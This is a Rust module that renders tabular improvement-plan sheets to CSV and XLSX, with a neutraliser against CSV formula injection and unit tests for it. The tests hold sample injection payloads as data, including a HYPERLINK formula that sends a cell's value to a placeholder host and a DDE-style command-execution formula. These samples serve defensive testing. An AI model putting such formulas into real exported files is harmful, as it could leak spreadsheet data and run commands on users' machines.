//! Tabular exports: a sheet is a header block, a table whose columns come from one declarative
//! layout, and a signature block. It renders to CSV (UTF-8 with BOM, so Excel in Spanish shows
//! accents) and to XLSX (bold wrapped headers, column widths, dates as dates).
use chrono::NaiveDate;
use rust_xlsxwriter::{Format, FormatAlign, FormatBorder, Workbook, XlsxError};
use std::borrow::Cow;

/// Characters that make a spreadsheet read a CSV field as a formula (OWASP "CSV injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The one neutraliser of CSV text: a text field beginning with `=`, `+`, `-`, `@`, tab or
/// carriage return gets a leading `'`, so Excel and LibreOffice show it as text instead of
/// running it (OWASP's rule). Numbers and dates never pass here: they stay numbers.
pub fn csv_text(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Writes a record of text fields, each through [`csv_text`].
fn text_record<'a, W: std::io::Write>(
    w: &mut csv::Writer<W>,
    fields: impl IntoIterator<Item = &'a str>,
) -> Result<(), csv::Error> {
    for field in fields {
        w.write_field(csv_text(field).as_bytes())?;
    }
    w.write_record(None::<&[u8]>)
}

/// The reverse of [`csv_text`] for files read back (an exported CSV imports as it was written):
/// drops the `'` before a formula character, as a spreadsheet does when it shows the cell.
pub fn csv_text_read(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => text,
    }
}

/// What a column holds, which decides how XLSX stores it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Wrapped text.
    Text,
    /// A number.
    Number,
    /// A date (stored as an Excel date, shown DD/MM/YYYY; `YYYY-MM-DD` in CSV).
    Date,
    /// A date as official forms write it (SIRECI): `AAAA/MM/DD` in CSV, an Excel date shown
    /// the same way in XLSX.
    FormDate,
    /// A percentage 0–100.
    Percent,
}

/// One column of a layout.
#[derive(Debug, Clone, Copy)]
pub struct Column {
    /// Header as the official format writes it.
    pub header: &'static str,
    /// Width in Excel character units.
    pub width: f64,
    /// Content kind.
    pub kind: Kind,
}

/// A column of a layout.
pub const fn col(header: &'static str, width: f64, kind: Kind) -> Column {
    Column { header, width, kind }
}

/// TI.PL03: the five columns of the seed plan.
pub const TI_PL03: &[Column] = &[
    col("CATEGORÍAS", 30.0, Kind::Text),
    col("PUNTAJE", 10.0, Kind::Number),
    col("DISEÑO ALTERNATIVAS DE MEJORA", 60.0, Kind::Text),
    col("MEJORAS PARA IMPLEMENTAR (INCLUIR PLAZO DE LA IMPLEMENTACIÓN)", 60.0, Kind::Text),
    col("EVALUACIÓN DE LA EFICACIA DE LAS ACCIONES IMPLEMENTADAS", 30.0, Kind::Text),
];

/// A cell value.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    /// Nothing.
    Empty,
    /// Text.
    Text(String),
    /// A number.
    Number(f64),
    /// A date.
    Date(NaiveDate),
}

impl Cell {
    /// Text, or empty when blank.
    pub fn text(value: impl Into<String>) -> Cell {
        let v = value.into();
        if v.is_empty() {
            Cell::Empty
        } else {
            Cell::Text(v)
        }
    }

    fn as_csv(&self, kind: Kind) -> String {
        match self {
            Cell::Empty => String::new(),
            Cell::Text(t) => csv_text(t).into_owned(),
            Cell::Number(n) if n.fract() == 0.0 => format!("{n:.0}"),
            Cell::Number(n) => format!("{n:.2}"),
            Cell::Date(d) if kind == Kind::FormDate => d.format("%Y/%m/%d").to_string(),
            Cell::Date(d) => d.format("%Y-%m-%d").to_string(),
        }
    }
}

/// A sheet ready to render.
#[derive(Debug, Clone)]
pub struct Sheet {
    /// Worksheet name (XLSX) and first line.
    pub title: String,
    /// Label/value lines above the table (entity, NIT, code, version, approval).
    pub header_block: Vec<(String, String)>,
    /// The column layout.
    pub columns: &'static [Column],
    /// Data rows, one cell per column.
    pub rows: Vec<Vec<Cell>>,
    /// Label/value lines below the table (Elaboró, Aprobó, acta).
    pub footer_block: Vec<(String, String)>,
}

impl Sheet {
    /// UTF-8 CSV with BOM: title, header block, a blank line, the table, a blank line, footer.
    pub fn to_csv(&self) -> Result<Vec<u8>, csv::Error> {
        let mut out = Vec::from(&b"\xEF\xBB\xBF"[..]);
        {
            let mut w = csv::WriterBuilder::new().flexible(true).from_writer(&mut out);
            text_record(&mut w, [self.title.as_str()])?;
            for (k, v) in &self.header_block {
                text_record(&mut w, [k.as_str(), v.as_str()])?;
            }
            w.write_record([""])?;
            text_record(&mut w, self.columns.iter().map(|c| c.header))?;
            for row in &self.rows {
                w.write_record(row.iter().zip(self.columns).map(|(cell, column)| cell.as_csv(column.kind)))?;
            }
            if !self.footer_block.is_empty() {
                w.write_record([""])?;
                for (k, v) in &self.footer_block {
                    text_record(&mut w, [k.as_str(), v.as_str()])?;
                }
            }
            w.flush()?;
        }
        Ok(out)
    }

    /// Row index (0-based) of the table header in both renderings.
    pub fn table_header_row(&self) -> usize {
        self.header_block.len() + 2
    }

    /// An XLSX workbook with one worksheet.
    pub fn to_xlsx(&self) -> Result<Vec<u8>, XlsxError> {
        let mut book = Workbook::new();
        self.add_to(&mut book, &self.title)?;
        book.save_to_buffer()
    }

    /// Adds this sheet to `book` as a worksheet named after `name` (Excel's characters only,
    /// at most 31).
    fn add_to(&self, book: &mut Workbook, name: &str) -> Result<(), XlsxError> {
        let sheet = book.add_worksheet();
        let name: String = name.chars().filter(|c| !"[]:*?/\\".contains(*c)).take(31).collect();
        sheet.set_name(if name.trim().is_empty() { "Plan".to_string() } else { name })?;
        let bold = Format::new().set_bold();
        let header = Format::new()
            .set_bold()
            .set_text_wrap()
            .set_align(FormatAlign::Center)
            .set_align(FormatAlign::VerticalCenter)
            .set_border(FormatBorder::Thin)
            .set_background_color("D9E1F2");
        let text = Format::new().set_text_wrap().set_align(FormatAlign::Top).set_border(FormatBorder::Thin);
        let number = Format::new().set_align(FormatAlign::Top).set_border(FormatBorder::Thin);
        let date =
            Format::new().set_num_format("dd/mm/yyyy").set_align(FormatAlign::Top).set_border(FormatBorder::Thin);
        let form_date =
            Format::new().set_num_format("yyyy/mm/dd").set_align(FormatAlign::Top).set_border(FormatBorder::Thin);
        let percent = Format::new().set_num_format("0.0").set_align(FormatAlign::Top).set_border(FormatBorder::Thin);
        sheet.write_string_with_format(0, 0, &self.title, &bold)?;
        let mut r: u32 = 1;
        for (k, v) in &self.header_block {
            sheet.write_string_with_format(r, 0, k, &bold)?;
            sheet.write_string(r, 1, v)?;
            r += 1;
        }
        r += 1;
        for (i, c) in self.columns.iter().enumerate() {
            let col = u16::try_from(i).unwrap_or(u16::MAX);
            sheet.set_column_width(col, c.width)?;
            sheet.write_string_with_format(r, col, c.header, &header)?;
        }
        sheet.set_freeze_panes(r + 1, 0)?;
        for row in &self.rows {
            r += 1;
            for (i, (cell, column)) in row.iter().zip(self.columns).enumerate() {
                let col = u16::try_from(i).unwrap_or(u16::MAX);
                let format = match column.kind {
                    Kind::Text => &text,
                    Kind::Number => &number,
                    Kind::Date => &date,
                    Kind::FormDate => &form_date,
                    Kind::Percent => &percent,
                };
                match cell {
                    Cell::Empty => sheet.write_blank(r, col, format)?,
                    Cell::Text(t) => sheet.write_string_with_format(r, col, t, format)?,
                    Cell::Number(n) => sheet.write_number_with_format(r, col, *n, format)?,
                    Cell::Date(d) => sheet.write_date_with_format(r, col, d, format)?,
                };
            }
        }
        if !self.footer_block.is_empty() {
            r += 1;
            for (k, v) in &self.footer_block {
                r += 1;
                sheet.write_string_with_format(r, 0, k, &bold)?;
                sheet.write_string(r, 1, v)?;
            }
        }
        Ok(())
    }
}

/// An XLSX workbook with one worksheet per `(name, sheet)` (names must differ), stamped as
/// created at `created`: the same sheets and instant always give the same bytes.
pub fn workbook_xlsx(
    sheets: &[(String, Sheet)],
    created: &chrono::DateTime<chrono::Utc>,
) -> Result<Vec<u8>, XlsxError> {
    let mut book = Workbook::new();
    book.set_properties(&rust_xlsxwriter::DocProperties::new().set_creation_datetime(created));
    for (name, sheet) in sheets {
        sheet.add_to(&mut book, name)?;
    }
    book.save_to_buffer()
}

#[cfg(test)]
mod tests {
    use super::*;
    use calamine::{Data, Reader, Xlsx};

    /// A fifteen-column layout with every kind of cell.
    const LAYOUT: &[Column] = &[
        col("CÓDIGO HALLAZGO", 14.0, Kind::Text),
        col("DESCRIPCIÓN HALLAZGO", 45.0, Kind::Text),
        col("CAUSA DEL HALLAZGO", 35.0, Kind::Text),
        col("EFECTO DEL HALLAZGO", 35.0, Kind::Text),
        col("ACCIÓN DE MEJORA", 40.0, Kind::Text),
        col("PROPÓSITO (OBJETIVO)", 35.0, Kind::Text),
        col("DESCRIPCIÓN DE LA ACTIVIDAD", 45.0, Kind::Text),
        col("UNIDAD DE MEDIDA", 16.0, Kind::Text),
        col("CANTIDAD", 10.0, Kind::Number),
        col("FECHA DE INICIO", 13.0, Kind::Date),
        col("FECHA DE TERMINACIÓN", 13.0, Kind::Date),
        col("PLAZO EN SEMANAS", 10.0, Kind::Number),
        col("AVANCE FÍSICO DE EJECUCIÓN", 12.0, Kind::Number),
        col("PORCENTAJE DE AVANCE", 12.0, Kind::Percent),
        col("OBSERVACIONES", 35.0, Kind::Text),
    ];

    fn sample() -> Sheet {
        Sheet {
            title: "Plan de mejoramiento".into(),
            header_block: vec![
                ("Entidad".into(), "Concejo Municipal de Cartago".into()),
                ("NIT".into(), "900215967-5".into()),
            ],
            columns: LAYOUT,
            rows: vec![vec![
                Cell::text("H-01"),
                Cell::text("Sin revisión de accesos"),
                Cell::Empty,
                Cell::Empty,
                Cell::text("Revisar accesos"),
                Cell::Empty,
                Cell::Empty,
                Cell::text("revisiones"),
                Cell::Number(4.0),
                Cell::Date(NaiveDate::from_ymd_opt(2025, 2, 1).unwrap()),
                Cell::Date(NaiveDate::from_ymd_opt(2025, 11, 30).unwrap()),
                Cell::Number(43.0),
                Cell::Number(2.0),
                Cell::Number(50.0),
                Cell::text("Acción núm. 1"),
            ]],
            footer_block: vec![("Elaboró".into(), "Martha".into())],
        }
    }

    #[test]
    fn csv_text_neutralises_formula_starts_and_reads_back() {
        for (raw, safe) in [
            ("=HYPERLINK(\"http://x/?\"&A1,\"ver\")", "'=HYPERLINK(\"http://x/?\"&A1,\"ver\")"),
            ("+cmd|\" /C calc\"!A0", "'+cmd|\" /C calc\"!A0"),
            ("-2+3", "'-2+3"),
            ("@evil", "'@evil"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("Revisar accesos", "Revisar accesos"),
            ("'ya", "'ya"),
            ("", ""),
        ] {
            assert_eq!(csv_text(raw), safe);
            assert_eq!(csv_text_read(&csv_text(raw)), raw);
        }
    }

    #[test]
    fn csv_text_cells_are_neutralised_and_numbers_are_not() {
        let mut s = sample();
        s.title = "=1+1".into();
        s.rows[0][4] = Cell::text("@SUM(A1)");
        s.rows[0][8] = Cell::Number(-4.0);
        let text = String::from_utf8(s.to_csv().unwrap()[3..].to_vec()).unwrap();
        assert!(text.starts_with("'=1+1\n"), "{text}");
        assert!(text.contains(",'@SUM(A1),"), "{text}");
        assert!(text.contains(",-4,"), "{text}");
    }

    #[test]
    fn csv_starts_with_a_bom_and_keeps_accents() {
        let bytes = sample().to_csv().unwrap();
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        assert!(text.contains("CÓDIGO HALLAZGO,DESCRIPCIÓN HALLAZGO"));
        assert!(text.contains("2025-02-01"));
    }

    #[test]
    fn xlsx_holds_headers_text_numbers_and_real_dates() {
        let s = sample();
        let bytes = s.to_xlsx().unwrap();
        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
        let range = book.worksheet_range("Plan de mejoramiento").unwrap();
        let h = u32::try_from(s.table_header_row()).unwrap();
        assert_eq!(range.get_value((h, 0)), Some(&Data::String("CÓDIGO HALLAZGO".into())));
        assert_eq!(range.get_value((h + 1, 4)), Some(&Data::String("Revisar accesos".into())));
        assert_eq!(range.get_value((h + 1, 8)), Some(&Data::Float(4.0)));
        match range.get_value((h + 1, 9)) {
            Some(Data::DateTime(d)) => {
                assert_eq!(d.as_datetime().unwrap().date(), NaiveDate::from_ymd_opt(2025, 2, 1).unwrap())
            }
            other => panic!("not a date: {other:?}"),
        }
    }
}
